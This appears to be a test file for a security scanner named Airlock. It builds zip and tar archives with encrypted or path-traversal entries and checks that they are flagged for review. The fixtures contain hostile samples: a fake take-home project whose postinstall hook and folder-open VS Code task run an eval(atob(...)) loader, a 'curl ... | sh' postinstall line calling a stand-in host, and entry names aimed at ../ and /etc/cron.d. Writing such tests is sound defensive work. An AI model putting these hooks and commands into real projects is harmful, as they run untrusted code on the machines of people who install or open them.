/**
 * Hostile input: archive entries that are not unpacked. An encrypted entry, or one whose name
 * leaves the folder, used to be a note only: an archive whose package.json, tasks.json and entry
 * script were encrypted scanned as pass. Each such entry is now a gap in `errors[]` with its kind,
 * and a `scan/incomplete-analysis` finding wherever it is; the archives are built at test time.
 */
import assert from 'node:assert/strict';
import { createWriteStream, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import yazl from 'yazl';
import { findingsOf, scanFixture } from '../helpers/fixtures.ts';
import { runAirlock } from '../helpers/cli.ts';
import { tempDir } from '../helpers/git-repo.ts';
import { makeTar } from '../helpers/tarball.ts';
import type { Report } from '../../src/core/types.ts';

const tmp = tempDir('hostile-archives');
after(() => {
  rmSync(tmp, { recursive: true, force: true });
});
let n = 0;

/**
 * A zip whose entries named in `encrypted` carry the "encrypted" flag (bit 0 of the general
 * purpose flags, in the local and the central header): no unpacker can read them without the
 * password, and Airlock never tries. Deflated, as `zip -e` writes them (a stored entry would also
 * need the 12-byte encryption header counted in its size).
 */
async function makeZip(entries: Record<string, string>, encrypted: readonly string[]): Promise<string> {
  const file = join(tmp, `a-${n++}.zip`);
  const zip = new yazl.ZipFile();
  for (const [name, body] of Object.entries(entries)) zip.addBuffer(Buffer.from(body), name, { compress: true });
  await new Promise<void>(resolve => {
    zip.outputStream.pipe(createWriteStream(file)).on('close', () => {
      resolve();
    });
    zip.end();
  });
  const buf = readFileSync(file);
  const central = Buffer.from([0x50, 0x4b, 0x01, 0x02]);
  for (let at = buf.indexOf(central); at >= 0; at = buf.indexOf(central, at + 4)) {
    const nameLength = buf.readUInt16LE(at + 28);
    const name = buf.subarray(at + 46, at + 46 + nameLength).toString('utf8');
    if (!encrypted.includes(name)) continue;
    buf.writeUInt16LE(buf.readUInt16LE(at + 8) | 1, at + 8);
    const local = buf.readUInt32LE(at + 42);
    buf.writeUInt16LE(buf.readUInt16LE(local + 6) | 1, local + 6);
  }
  writeFileSync(file, buf);
  return file;
}

function gapsOf(report: Report): [string, string][] {
  return findingsOf(report, 'scan/incomplete-analysis').map(f => [f.severity, f.location.file]);
}

function kindsOf(report: Report): [string, string | undefined][] {
  return report.errors.filter(e => e.kind !== undefined).map(e => [e.file ?? '', e.kind]);
}

describe('hostile: archive entries that are not unpacked', () => {
  const lure = {
    'take-home/README.md': '# Take-home test\n\nRun `npm install`, then open the folder in VS Code.\n',
    'take-home/package.json': '{"scripts":{"postinstall":"node src/index.js"}}\n',
    'take-home/.vscode/tasks.json': '{"tasks":[{"label":"x","command":"node src/index.js","runOptions":{"runOn":"folderOpen"}}]}\n',
    'take-home/src/index.js': 'eval(atob(process.env.X));\n',
  };

  it('encrypted package.json, tasks.json and script are high findings, first in the report; never pass', async () => {
    const zip = await makeZip(lure, ['take-home/package.json', 'take-home/.vscode/tasks.json', 'take-home/src/index.js']);
    const report = await scanFixture(zip, { quarantineDir: join(tmp, 'q') });
    assert.deepEqual(kindsOf(report), [
      ['package.json', 'encrypted'],
      ['.vscode/tasks.json', 'encrypted'],
      ['src/index.js', 'encrypted'],
    ]);
    assert.deepEqual(gapsOf(report), [
      ['high', '.vscode/tasks.json'],
      ['high', 'package.json'],
      ['high', 'src/index.js'],
    ]);
    assert.equal(report.verdict, 'review');
    assert.ok(report.findings.slice(0, 3).every(f => f.ruleId === 'scan/incomplete-analysis'));
    const tasks = findingsOf(report, 'scan/incomplete-analysis').find(f => f.location.file === '.vscode/tasks.json');
    assert.match(tasks?.message ?? '', /encrypted archive entry, so it was not unpacked/);
    assert.deepEqual(tasks?.triggers, ['open']);
  });

  it('an encrypted entry nothing names is still a finding: its content is unknown', async () => {
    const zip = await makeZip({ 'p/README.md': '# p\n', 'p/notes.bin': 'x' }, ['p/notes.bin']);
    const report = await scanFixture(zip, { quarantineDir: join(tmp, 'q') });
    assert.deepEqual(gapsOf(report), [['high', 'notes.bin']]);
    assert.equal(report.verdict, 'review');
  });

  it('the CLI exits 1 with --fail-on review, and open refuses', async () => {
    const zip = await makeZip(lure, ['take-home/package.json']);
    const scanned = await runAirlock(['scan', zip, '--fail-on', 'review', '--no-provenance', '--format', 'json']);
    assert.equal(scanned.code, 1);
    assert.equal(scanned.stderr, '');
    const report = JSON.parse(scanned.stdout) as Report;
    assert.deepEqual(gapsOf(report), [['high', 'package.json']]);

    const opened = await runAirlock(['open', zip, '--editor', '/bin/false']);
    const copy = /The copy that would be opened is (\S+)/.exec(opened.stdout)?.[1];
    if (copy !== undefined) rmSync(join(copy, '..'), { recursive: true, force: true });
    assert.equal(opened.code, 1);
    assert.match(opened.stderr, /^airlock open: refused: the scan is incomplete \(1 finding of scan\/\*, first: package\.json\)/);
    assert.doesNotMatch(opened.stderr, /\n\s+at /);
  });

  it('tar entries whose names leave the folder are traversal findings under the names the archive gives', async () => {
    const tgz = join(tmp, `t-${n++}.tgz`);
    writeFileSync(
      tgz,
      gzipSync(
        makeTar({
          'app/README.md': '# app\n',
          'app/../package.json': '{"scripts":{"postinstall":"curl https://x.example.invalid | sh"}}\n',
          '/etc/cron.d/job': '* * * * * root true\n',
          'app/.vscode/../../../tasks.json': '{}\n',
        }),
      ),
    );
    const report = await scanFixture(tgz, { quarantineDir: join(tmp, 'q') });
    // Relative to the scanned folder (the archive's top folder app/), as an unpacker would place them.
    assert.deepEqual(kindsOf(report), [
      ['../package.json', 'traversal'],
      ['/etc/cron.d/job', 'traversal'],
      ['.vscode/../../../tasks.json', 'traversal'],
    ]);
    assert.deepEqual(gapsOf(report), [
      ['high', '../package.json'],
      ['high', '.vscode/../../../tasks.json'],
      ['high', '/etc/cron.d/job'],
    ]);
    assert.match(
      findingsOf(report, 'scan/incomplete-analysis')[0]?.message ?? '',
      /name in the archive leaves the folder \(`\.\.` or an absolute path\)/,
    );
    // The rest was unpacked and scanned: the README is there, nothing was written outside.
    assert.equal(report.target.files, 1);
  });

  it('a tarball with its own `./` entry and ordinary files has no gap', async () => {
    const tgz = join(tmp, `t-${n++}.tgz`);
    writeFileSync(tgz, gzipSync(makeTar({ './': '', './package.json': '{"name":"ok","private":true}\n' })));
    const report = await scanFixture(tgz, { quarantineDir: join(tmp, 'q') });
    assert.deepEqual(kindsOf(report), []);
    assert.equal(report.verdict, 'pass');
  });
});
